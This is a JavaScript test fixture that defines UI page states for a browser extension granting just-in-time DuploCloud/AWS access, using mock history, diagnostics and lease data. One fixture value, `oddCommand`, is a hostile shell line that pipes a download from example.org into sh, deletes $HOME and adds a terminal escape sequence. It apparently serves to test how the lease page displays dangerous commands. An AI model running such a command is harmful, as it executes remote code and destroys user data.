import { press } from './press.js';
import {
  ADMINISTRATOR,
  HOUR,
  LONG_NAME,
  long,
  MINUTE,
  portal,
  session,
  signedOut,
  targetOf,
  usual,
} from './world.js';

const options = 'src/pages/options/options.html';
const history = 'src/pages/history/history.html';
const diagnostics = 'src/pages/diagnostics/diagnostics.html';
const welcome = 'src/pages/welcome/welcome.html';
const question = 'src/pages/question/question.html';
const leasePage = 'src/pages/question/lease.html';

const now = Math.round(Date.now() / 1000);

/** @param {number} ago seconds @param {string} what @param {string} name @param {object} [other] */
const entry = (ago, what, name, other = {}) => ({
  at: now - ago,
  what,
  portal: 'acme',
  role: 'tenant',
  tenant: `${name}-guid`,
  name,
  service: null,
  by: 'popup',
  lasted: null,
  ...other,
});

const entries = Array.from({ length: 40 }, (_, at) =>
  entry(
    at * 5400,
    ['opened', 'page', 'renewed', 'ended'][at % 4] ?? 'opened',
    ['invoice', 'billing-prod', 'dev01', at === 9 ? LONG_NAME : 'qa'][at % 4] ?? 'qa',
    { service: at % 2 ? 's3' : null, lasted: at % 4 === 3 ? 3600 : null },
  ),
);

const doctor = {
  system: 'Linux',
  clean: false,
  checked: [
    { subject: 'portal', name: 'acme.duplocloud.net', detail: 'can be reached' },
    { subject: 'aws', name: 'signin.aws.amazon.com', detail: 'can be reached' },
  ],
  findings: [
    {
      code: 'manifest_missing',
      subject: 'browser',
      name: 'Chromium',
      severity: 'error',
      message: 'Chromium has no manifest of this program',
      hint: 'register it with the browser',
      command: 'jit-console install --browser chromium --user-data-dir /home/bob/.config/chromium',
      fixable: true,
    },
    {
      code: 'token_expired',
      subject: 'portal',
      name: 'acme',
      severity: 'warning',
      message: 'the sign-in to acme ends in 10 minutes',
      hint: 'sign in again',
      command: null,
      fixable: false,
    },
  ],
};

const replies = { list_history: { entries }, run_doctor: doctor };

const several = () => {
  const { local, session: open } = usual();
  const portals = [
    portal('acme'),
    portal('globex', { api_url: 'https://api.globex.duplocloud.net' }),
    signedOut('a-portal-with-a-rather-long-name.of-some-department'),
  ];
  return { local: { ...local, portals }, session: open };
};

/** @param {object} asked @param {Record<string, object>} [sessions] */
const asking =
  (asked, sessions = {}) =>
  () => ({
    local: usual().local,
    session: {
      sessions,
      questions: {
        one: {
          id: 'one',
          kind: 'sign_out',
          request: { target: targetOf('billing-prod'), how: 'go', tabId: 1 },
          store: 'default',
          tabId: 1,
          replaces: null,
          sessions: Object.keys(sessions),
          phase: 'asked',
          optInFailed: false,
          ...asked,
        },
      },
    },
  });

const five = Object.fromEntries(
  ['dev01', 'invoice', 'staging', 'qa', LONG_NAME].map((name, at) => [
    name,
    session(name, 52 - 11 * at, { tabIds: at === 3 ? [] : [at + 1] }),
  ]),
);

/** @param {string} name @param {object} [wanted] */
const lending =
  (name, wanted = {}) =>
  () => ({
    local: usual().local,
    session: {
      leases: {
        one: {
          id: 'one',
          tabId: 1,
          wanted: {
            ticket: 1,
            portal: 'acme',
            role: 'tenant',
            tenant: { id: `${name}-guid`, name },
            program: './report.py --month 11',
            folder: '/home/bob/reports',
            minutes: 15,
            reason: null,
            ...wanted,
          },
        },
      },
    },
  });

const oddCommand = String.raw`sh -c 'curl -s https://example.org/${'path/'.repeat(40)} | sh; rm -rf "$HOME"' $'\x1b[2J'`;

/** @param {object} local @param {object} [session] */
const state =
  (local, session = {}) =>
  () => ({ local, session });

const missing = { code: 'host_missing', message: 'not found', hint: '' };
const ended = { code: 'host_ended', message: 'Native host has exited.', hint: '' };
const fresh = {
  code: 'host_too_new',
  message: 'the program is 0.4, this extension knows 0.3',
  hint: '',
};
const old = { code: 'host_too_old', message: 'the program is 0.1, this needs 0.3', hint: '' };

/** @type {import('./states.js').State[]} */
export const pageStates = [
  { name: 'settings', page: options, world: several, ready: '[data-portal]' },
  { name: 'settings: long name', page: options, world: long, ready: '[data-target]' },
  {
    name: 'settings: removing a portal',
    page: options,
    world: several,
    ready: '[data-portal=globex] .remove',
    act: (page) => press(page, '[data-portal=globex] .remove'),
  },
  {
    name: 'settings: no portal',
    page: options,
    world: state({ portals: [] }),
    ready: '#portals p',
  },
  {
    name: 'settings: no program',
    page: options,
    world: state({ portals: [] }, { hostError: missing }),
    ready: '#check-again',
  },
  {
    name: 'settings: by policy',
    page: options,
    world: () => {
      const { local, session: open } = several();
      const machinePolicy = {
        portals: [{ url: 'https://acme.duplocloud.net' }],
        onlyListedPortals: true,
        recordEverything: true,
        locked: ['renewal', 'isolation', 'production', 'chip'],
      };
      return { local: { ...local, machinePolicy }, session: open };
    },
    ready: '[data-portal]',
  },
  {
    name: 'settings: no access to AWS’s pages',
    page: options,
    world: usual,
    ready: '#allow-aws',
    refused: true,
  },
  { name: 'history', page: history, world: usual, replies, ready: '.history' },
  {
    name: 'history: filtered',
    page: history,
    world: usual,
    replies,
    ready: '.history',
    act: (page) => page.type('#history-filter', 'billing s3'),
  },
  {
    name: 'history: nothing found',
    page: history,
    world: usual,
    replies,
    ready: '.history',
    act: (page) => page.type('#history-filter', 'invoice s3'),
  },
  {
    name: 'history: clearing',
    page: history,
    world: usual,
    replies,
    ready: '.history',
    act: (page) => press(page, '#history-clear'),
  },
  {
    name: 'history: empty',
    page: history,
    world: usual,
    replies: { list_history: { entries: [] } },
    ready: '#history p',
  },
  {
    name: 'history: by policy',
    page: history,
    world: () => {
      const { local, session: open } = usual();
      return { local: { ...local, machinePolicy: { recordEverything: true } }, session: open };
    },
    replies,
    ready: '.history',
  },
  {
    name: 'history: no program',
    page: history,
    world: usual,
    replies: { list_history: { error: missing } },
    ready: '#status p',
  },
  { name: 'diagnostics', page: diagnostics, world: usual, replies, ready: '#doctor-run' },
  {
    name: 'diagnostics: what was seen',
    page: diagnostics,
    world: () => {
      const { local, session: open } = usual();
      const seen = (/** @type {string} */ differs) => ({ differs, day: '2026-11-26', told: true });
      const acme = { 'portal.guid': seen(''), 'aws.session_data': seen('no_tag') };
      return { local: { ...local, factsSeen: { acme } }, session: open };
    },
    replies,
    ready: '[data-fact]',
  },
  {
    name: 'diagnostics: checked',
    page: diagnostics,
    world: usual,
    replies,
    ready: '#doctor-run',
    act: async (page) => {
      await press(page, '#doctor-run');
      await page.waitForSelector('.finding');
    },
  },
  {
    name: 'diagnostics: no problems',
    page: diagnostics,
    world: usual,
    replies: { ...replies, run_doctor: { ...doctor, clean: true, findings: [] } },
    ready: '#doctor-run',
    act: async (page) => {
      await press(page, '#doctor-run');
      await page.waitForSelector('.doctor-well, details');
    },
  },
  {
    name: 'first run: no program',
    page: welcome,
    world: state({}, { hostError: missing }),
    ready: '#check-again',
  },
  {
    name: 'first run: old program',
    page: welcome,
    world: state({}, { hostError: old }),
    ready: '#check-again',
  },
  {
    name: 'first run: new program',
    page: welcome,
    world: state({}, { hostError: fresh }),
    ready: '#reload-extension',
  },
  {
    name: 'first run: program ends at once',
    page: welcome,
    world: state({}, { hostError: ended }),
    ready: '#check-again',
  },
  {
    name: 'first run: no portal',
    page: welcome,
    world: state({ portals: [] }),
    ready: '#portal-url',
  },
  {
    name: 'first run: sign in',
    page: welcome,
    world: state({ portals: [signedOut('acme'), signedOut('globex')] }),
    ready: '#sign-in',
  },
  {
    name: 'first run: open',
    page: welcome,
    world: state({ portals: [portal('acme')] }),
    ready: '.keys',
  },
  {
    name: 'first run: no access to AWS’s pages',
    page: welcome,
    world: state({ portals: [signedOut('acme')] }),
    ready: '#allow-aws',
    refused: true,
  },
  { name: 'first run: done', page: welcome, world: usual, ready: '.keys' },
  {
    name: 'question: sign out',
    page: `${question}#one`,
    world: asking({}, { dev01: session('dev01', 42), invoice: session('invoice', 7) }),
    ready: '#continue',
  },
  {
    name: 'question: sign out, no multi-session',
    page: `${question}#one`,
    world: asking({ optInFailed: true }, { dev01: session('dev01', 42) }),
    ready: '#continue',
  },
  {
    name: 'question: sign out of an unknown session',
    page: `${question}#one`,
    world: asking({}),
    ready: '#continue',
  },
  {
    name: 'question: five sessions',
    page: `${question}#one`,
    world: asking({ kind: 'session_limit' }, five),
    ready: '#sessions button',
  },
  {
    name: 'question: administrator',
    page: `${question}#one`,
    world: asking({
      kind: 'administrator',
      request: { target: ADMINISTRATOR, how: 'go', tabId: 1 },
    }),
    ready: '#continue',
  },
  {
    name: 'question: production',
    page: `${question}#one`,
    world: asking({
      kind: 'production',
      request: { target: targetOf('billing-prod'), how: 'go', tabId: 1 },
    }),
    ready: '#continue',
  },
  {
    name: 'question: sign out of production',
    page: `${question}#one`,
    world: asking(
      { request: { target: targetOf('dev01'), how: 'go', tabId: 1 } },
      { 'billing-prod': session('billing-prod', 42) },
    ),
    ready: '#continue',
  },
  {
    name: 'question: reason',
    page: `${question}#one`,
    world: asking({ kind: 'reason', asksReason: true }),
    ready: '#reason',
  },
  {
    name: 'question: reason for production',
    page: `${question}#one`,
    world: asking({ kind: 'production', asksReason: true }),
    ready: '#reason',
  },
  {
    name: 'question: five unknown sessions',
    page: `${question}#one`,
    world: asking({ kind: 'session_limit' }),
    ready: '#cancel',
  },
  { name: 'lease', page: `${leasePage}#one`, world: lending('invoice'), ready: '#lend' },
  {
    name: 'lease: production',
    page: `${leasePage}#one`,
    world: lending('billing-prod', { reason: 'OPS-1' }),
    ready: '#lend',
  },
  {
    name: 'lease: administrator, a long command',
    page: `${leasePage}#one`,
    world: lending('', { role: 'admin', tenant: null, program: oddCommand, minutes: 60 }),
    ready: '#lend',
  },
  { name: 'lease: long name', page: `${leasePage}#one`, world: lending(LONG_NAME), ready: '#lend' },
  { name: 'lease: gone', page: `${leasePage}#two`, world: lending('invoice') },
  {
    name: 'question: gone',
    page: `${question}#two`,
    world: asking({}),
  },
];

export { HOUR, MINUTE };
